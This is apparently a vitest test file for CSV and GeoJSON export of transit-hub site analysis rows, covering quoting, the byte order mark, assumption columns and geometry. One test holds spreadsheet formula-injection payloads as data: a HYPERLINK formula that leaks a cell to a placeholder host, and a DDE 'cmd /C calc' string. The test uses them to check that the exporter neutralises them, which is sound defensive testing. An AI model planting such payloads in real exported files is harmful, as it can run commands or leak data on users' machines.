import { describe, expect, it } from 'vitest';
import { sitesToCsv, sitesToGeoJson } from '../../../src/analysis/export-sites';
import { analyzeHubAccess } from '../../../src/analysis/hub-analysis';
import { buildSiteRows, type SiteRow } from '../../../src/analysis/site-rows';
import { FAR, miniLayers, snapshot } from '../../fixtures/analysis/mini-layers';

const layers = miniLayers();
const analysis = analyzeHubAccess(layers);
const rows = buildSiteRows(layers, analysis, ['business-areas', 'research']);
const { assumptions } = analysis.context;

/** An RFC 4180 reader written for the test: quoted fields, doubled quotes, CRLF between records. */
function readCsv(text: string): string[][] {
  const records: string[][] = [[]];
  let field = '';
  let quoted = false;
  let index = 0;
  const endField = () => {
    records.at(-1)!.push(field);
    field = '';
  };
  while (index < text.length) {
    const char = text[index]!;
    const next = text[index + 1];
    index += 1;
    if (quoted && char === '"' && next === '"') {
      field += '"';
      index += 1;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && char === ',') {
      endField();
    } else if (!quoted && char === '\r' && next === '\n') {
      endField();
      records.push([]);
      index += 1;
    } else {
      field += char;
    }
  }
  records.pop(); // the empty record after the final CRLF
  return records;
}

describe('sitesToCsv', () => {
  const tricky: SiteRow = { ...rows[0]!, id: 'tricky', name: 'Sørum "nye", Blaker\r\nog Rånåsfoss' };
  const csv = sitesToCsv([...rows, tricky], assumptions);
  const records = readCsv(csv.slice(1));

  it('starts with a UTF-8 byte order mark so spreadsheets read æøå right', () => {
    expect(csv.charCodeAt(0)).toBe(0xfeff);
  });

  it('can leave the byte order mark out', () => {
    expect(sitesToCsv(rows, assumptions, { byteOrderMark: false }).startsWith('id,')).toBe(true);
  });

  it('has a header row and one record per site, all the same width', () => {
    expect(records).toHaveLength(rows.length + 2);
    expect(new Set(records.map((record) => record.length)).size).toBe(1);
  });

  it('reads back a name with quotes, a comma, a line break and æøå unchanged', () => {
    expect(records.at(-1)![1]).toBe('Sørum "nye", Blaker\r\nog Rånåsfoss');
  });

  it('carries the assumptions as trailing columns on every row', () => {
    const header = records[0]!;
    const speed = header.indexOf('assumption_walk_speed_kmh');
    expect(speed).toBeGreaterThan(header.indexOf('along_axis_km'));
    expect(records.slice(1).every((record) => record[speed] === '5')).toBe(true);
  });

  it('writes the figures: rail distance in whole metres with its ±', () => {
    const header = records[0]!;
    const near = records.find((record) => record[0] === 'near')!;
    expect([
      near[header.indexOf('nearest_rail_id')],
      near[header.indexOf('rail_distance_m')],
      near[header.indexOf('rail_distance_plus_minus_m')],
    ]).toEqual(['lillestrom-stasjon', '600', '80']);
  });

  it('leaves an unknown figure empty', () => {
    const header = records[0]!;
    expect(records.find((record) => record[0] === 'lost')![header.indexOf('rail_distance_m')]).toBe('');
  });

  it('neutralises a formula in a shared link’s proposal name and in the data, so a spreadsheet shows it as text', () => {
    const formula = '=HYPERLINK("https://example.invalid/?"&A1;"klikk")';
    const proposals = [{ mode: 'rail' as const, name: formula, position: [FAR[0]!, FAR[1]!] as const }];
    const withProposal = analyzeHubAccess(layers, { proposals });
    const proposalRows = buildSiteRows(layers, withProposal, ['business-areas']);
    const dataRow: SiteRow = { ...proposalRows[0]!, id: 'data', name: '@SUM(1+1)*cmd|"/C calc"!A0' };
    const read = readCsv(sitesToCsv([...proposalRows, dataRow], assumptions).slice(1));
    const header = read[0]!;
    const far = read.find((record) => record[0] === 'far')!;
    expect(far[header.indexOf('nearest_rail_name')]).toBe(`'${formula}`);
    expect(read.at(-1)![header.indexOf('name')]).toBe(`'@SUM(1+1)*cmd|"/C calc"!A0`);
  });

  it('leaves no text cell starting with a formula character in a semicolon-separated variant either', () => {
    const dialect = { delimiter: ';' as const, formatNumber: (value: number) => String(value).replace('.', ',') };
    const dataRow: SiteRow = { ...rows[0]!, name: '-2+3;=1' };
    const csv = sitesToCsv([dataRow], assumptions, { byteOrderMark: false, dialect });
    expect(csv.split('\r\n')[1]).toContain(`;"'-2+3;=1";`);
  });

  it('still writes the header for an empty table', () => {
    expect(readCsv(sitesToCsv([], assumptions, { byteOrderMark: false }))).toEqual([records[0]]);
  });
});

describe('sitesToGeoJson', () => {
  const geojson = sitesToGeoJson(rows, analysis);

  it('is a FeatureCollection with one feature per site', () => {
    expect([geojson.type, geojson.features.length]).toEqual(['FeatureCollection', rows.length]);
  });

  it('keeps each site’s own geometry, and null for a site without a position', () => {
    expect(geojson.features.map((feature) => feature.geometry?.type ?? null)).toEqual([
      'Point',
      'Point',
      'Polygon',
      null,
      'Point',
      'Point',
    ]);
  });

  it('has the same property keys as the CSV columns', () => {
    const header = readCsv(sitesToCsv(rows, assumptions, { byteOrderMark: false }))[0];
    expect(Object.keys(geojson.features[0]!.properties!)).toEqual(header);
  });

  it('also states the assumptions once at the top', () => {
    expect(geojson.assumptions).toMatchObject({
      assumption_rail_walk_m: 800,
      assumption_bus_walk_m: 400,
      assumption_detour_factor: 1.3,
    });
  });

  it('survives JSON serialisation unchanged', () => {
    expect(JSON.parse(JSON.stringify(geojson))).toEqual(geojson);
  });

  it('copies geometry rather than sharing the frozen input', () => {
    const before = snapshot(layers);
    const copy = geojson.features[0]!.geometry as { coordinates: number[] };
    copy.coordinates[0] = 0;
    expect(snapshot(layers)).toBe(before);
  });
});
